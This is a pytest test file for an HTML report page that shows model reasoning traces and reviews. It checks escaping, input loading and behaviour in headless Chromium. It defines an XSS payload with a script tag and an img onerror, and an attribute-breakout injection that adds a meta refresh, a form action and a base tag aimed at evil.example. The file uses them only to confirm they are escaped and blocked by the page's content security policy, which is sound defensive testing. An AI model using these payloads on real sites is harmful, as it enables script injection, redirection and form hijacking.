"""Tests for dca.report (the `dca show` page): escaping of untrusted text, reading inputs,
and the page in a real headless Chromium (skipped only where Chromium is not installed)."""

from __future__ import annotations

import html
import shutil
import tempfile

import pytest

from dca.records import Credit, Review
from dca.files import write_jsonl
from dca.report import ReportInputs, collect_inputs, render_report
from gold_traces import gold_traces, review_all, three_reviewers

PAYLOAD = "<script>window.__xss = 1</script><img src=x onerror=\"window.__xss = 2\">"


def hostile_inputs(n: int = 6) -> ReportInputs:
    """Gold traces (some wrong), three reviewers, one credit; trace 0 carries HTML/script in
    its completion, its question, a reviewer's reason and the reviewer's name."""
    golds = gold_traces(n, seed=5, wrong_share=0.5)
    golds[0].trace.completion = PAYLOAD + " " + golds[0].trace.completion
    golds[0].problem.question = PAYLOAD + golds[0].problem.question
    reviews = review_all(golds[1:], three_reviewers(golds, 0.5, seed=3))
    reviewers = three_reviewers(golds, 0.5, seed=3)
    reviews += review_all(golds[:1], [reviewers[0], reviewers[2]])  # the gold-role reviewer cannot read it
    for r in reviews:
        if r.trace_id == golds[0].trace.id and r.steps:
            r.steps[0].reason = PAYLOAD
            r.reviewer = r.reviewer + PAYLOAD if r.reviewer == "noisy" else r.reviewer
    credit = Credit(trace_id=golds[1].trace.id, policy="conserve", sequence_advantage=0.5,
                    token_advantages=[0.0, 1.2, 1.2, -0.1, 0.0], credited_tokens=3)  # fmt: skip
    return ReportInputs(
        traces=[g.trace for g in golds], reviews=reviews, credits=[credit], problems=[g.problem for g in golds]
    )


def test_all_model_text_is_escaped():
    inputs = hostile_inputs()
    page = render_report(inputs)
    assert page.count("<script") == 1  # the page's own script only
    assert "<img" not in page and "onerror=\"window" not in page
    assert html.escape(PAYLOAD, quote=True) in page  # shown, as text
    assert "window.__xss" not in page.split("<script>")[1]


def test_page_has_every_part():
    inputs = hostile_inputs()
    page = render_report(inputs, rule="unanimous")
    assert page.count('<section class="trace"') == 6
    assert 'data-outcome="failed"' in page and 'data-outcome="solved"' in page
    assert 'data-disputed="1"' in page and 'class="unit disputed"' in page
    assert 'class="heat"' in page and "token 1: +1.2000" in page and "3 of 5 tokens credited" in page
    assert "<svg" in page and "agreed steps and dependencies" in page
    assert "each reviewer&#x27;s steps" in page or "each reviewer's steps" in page
    assert "http://" not in page and "https://" not in page  # self-contained: nothing to fetch
    assert len(render_report(inputs, limit=2).split('<section class="trace"')) == 3


def test_collect_inputs_reads_a_run_directory_or_files(tmp_path):
    inputs = hostile_inputs(3)
    run = tmp_path / "run"
    run.mkdir()
    write_jsonl(run / "traces.jsonl", inputs.traces)
    write_jsonl(run / "reviews.jsonl", inputs.reviews)
    write_jsonl(run / "problems.jsonl", inputs.problems)
    from_run = collect_inputs([run])
    assert len(from_run.traces) == 3 and len(from_run.reviews) == len(inputs.reviews) and len(from_run.problems) == 3
    from_files = collect_inputs([run / "reviews.jsonl", run / "traces.jsonl"])
    assert from_files.reviews == from_run.reviews and from_files.traces == from_run.traces and not from_files.problems
    (tmp_path / "other.jsonl").write_text('{"hello": 1}\n')
    with pytest.raises(ValueError, match="holds neither"):
        collect_inputs([tmp_path / "other.jsonl"])
    with pytest.raises(FileNotFoundError):
        collect_inputs([tmp_path / "missing.jsonl"])
    with pytest.raises(ValueError, match="no traces.jsonl"):
        collect_inputs([tmp_path])


def test_reviews_alone_are_enough():
    inputs = hostile_inputs(3)
    page = render_report(ReportInputs(reviews=inputs.reviews))
    assert page.count('<section class="trace"') == 3 and 'data-outcome="unknown"' in page


def test_a_failed_review_is_shown_not_fatal():
    inputs = hostile_inputs(2)
    trace = inputs.traces[1]
    failed = Review(trace_id=trace.id, reviewer="llm", units=[], status="failed", error="timed out <b>")
    page = render_report(ReportInputs(traces=inputs.traces, reviews=[*inputs.reviews, failed]))
    assert "review by llm failed: timed out &lt;b&gt;" in page


def test_a_failed_trace_shows_its_negative_credit_on_the_error_step():
    import re

    from dca.credit import CreditConfig, compute_credit
    from dca.records import Step, Trace
    from dca.segment import segment

    text = "She has 3 apples. So 3 + 4 = 8. Then 8 * 2 = 16.\nAnswer: 16"
    units = segment(text)
    labels = ["essential", "error", "essential", "solved"]
    steps = [Step(index=i, first_unit=i, last_unit=i, function="other", contribution=c) for i, c in enumerate(labels)]
    review = Review(trace_id="p/g0", reviewer="reference", units=units, steps=steps)
    token_spans = [(m.start(), m.end()) for m in re.finditer(r"\s*\S+", text)]  # one token a word
    credit = compute_credit(
        trace_id="p/g0", text=text, token_spans=token_spans, review=review, sequence_advantage=-1.0,
        answer_span=(len(text) - 2, len(text)), config=CreditConfig(policy="signed", max_weight=None),  # uncapped: only blamed units
    )  # fmt: skip
    trace = Trace(id="p/g0", problem_id="p", prompt="", completion=text, answer="16", outcome="wrong", advantage=-1.0)
    page = render_report(ReportInputs(traces=[trace], reviews=[review], credits=[credit]))
    negative = re.findall(r'<span class="unit [^"]*credit-negative"[^>]*>([^<]*)</span>', page)
    assert [t.strip() for t in negative] == ["So 3 + 4 = 8.", "Answer: 16"]
    assert "credit-positive" not in page
    assert 'class="strip-row credit-row"' in page and "credit: +0.000" in page


# ---------------------------------------------------------------------------------------------
# Headless Chromium

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
CHROMEDRIVER = shutil.which("chromedriver")
CHROMIUM_FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
)  # fmt: skip


@pytest.fixture
def browser():
    if CHROMIUM is None or CHROMEDRIVER is None:
        pytest.skip("Chromium is not installed: apt-get install -y chromium chromium-driver (CI installs it in .ci/run)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    profile = tempfile.mkdtemp(prefix="dca-chromium-")
    options.add_argument(f"--user-data-dir={profile}")
    options.add_argument("--window-size=1400,1000")
    options.binary_location = CHROMIUM
    driver = webdriver.Chrome(options=options, service=Service(CHROMEDRIVER))
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


def test_page_in_headless_chromium(browser, tmp_path):
    from selenium.webdriver.common.by import By

    inputs = hostile_inputs()
    page = tmp_path / "report.html"
    page.write_text(render_report(inputs, rule="unanimous"), encoding="utf-8")
    browser.get(page.as_uri())
    sections = browser.find_elements(By.CSS_SELECTOR, "section.trace")
    assert len(sections) == 6 and all(s.is_displayed() for s in sections)
    assert browser.execute_script("return window.__xss") is None  # nothing injected ran
    first_text = sections[0].find_element(By.CSS_SELECTOR, ".cot").text
    assert first_text.startswith('<script>window.__xss = 1</script><img src=x onerror="window.__xss = 2">')
    assert sections[1].find_element(By.CSS_SELECTOR, ".cot").text.strip() == inputs.traces[1].completion.strip()
    assert browser.find_elements(By.CSS_SELECTOR, "section.trace .unit.disputed")
    assert sections[1].find_element(By.CSS_SELECTOR, ".heat").is_displayed()

    def visible(outcome: str | None = None) -> list[str]:
        return [s.get_attribute("data-outcome") if outcome is None else s.get_attribute(outcome) for s in sections if s.is_displayed()]

    outcomes = [s.get_attribute("data-outcome") for s in sections]
    for name, expected in (("failed", "failed"), ("solved", "solved")):
        browser.find_element(By.CSS_SELECTOR, f'button[data-filter="{name}"]').click()
        assert visible() == [o for o in outcomes if o == expected] and expected in outcomes
    browser.find_element(By.CSS_SELECTOR, 'button[data-filter="disputed"]').click()
    assert set(visible("data-disputed")) == {"1"}
    browser.find_element(By.CSS_SELECTOR, 'button[data-filter="all"]').click()
    assert len(visible()) == 6


INJECT = '"><meta http-equiv="refresh" content="0;url=http://evil.example/"><form action="http://evil.example/"><input name=x></form><base href="http://evil.example/">'


def test_every_field_is_escaped_even_numbers_and_labels():
    """Records built in Python are not validated, so any field may carry markup: indices,
    unit ranges, labels used in class names, counts and the outcome all go through escaping."""
    inputs = hostile_inputs()
    trace = inputs.traces[1]
    trace.outcome = INJECT
    trace.answer = INJECT
    for review in inputs.reviews:
        if review.trace_id == trace.id and review.steps:
            step = review.steps[0]
            step.contribution = INJECT
            step.function = INJECT
            step.index, step.first_unit, step.last_unit = INJECT, step.first_unit, step.last_unit  # type: ignore[assignment]
            step.depends_on = [INJECT]  # type: ignore[list-item]
    page = render_report(ReportInputs(traces=inputs.traces, reviews=[r for r in inputs.reviews if r.trace_id == trace.id], problems=inputs.problems))
    body = page.split("</head>", 1)[1]
    for tag in ("<meta", "<form", "<input", "<base"):
        assert tag not in body, tag
    head = page.split("</head>", 1)[0]
    csp = head.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
    assert "form-action 'none'" in csp and "base-uri 'none'" in csp and "default-src 'none'" in csp


def test_show_refuses_hand_made_records_with_markup_in_typed_fields(tmp_path):
    from dca.errors import UserError
    from dca.records import to_dict

    review = hostile_inputs().reviews[0]
    data = to_dict(review)
    data["steps"][0]["first_unit"] = INJECT
    (tmp_path / "r.jsonl").write_text(__import__("json").dumps(data) + "\n")
    with pytest.raises(UserError, match=r"r.jsonl:1: not a valid Review record: steps\[0\]\.first_unit should be an integer"):
        collect_inputs([tmp_path / "r.jsonl"])
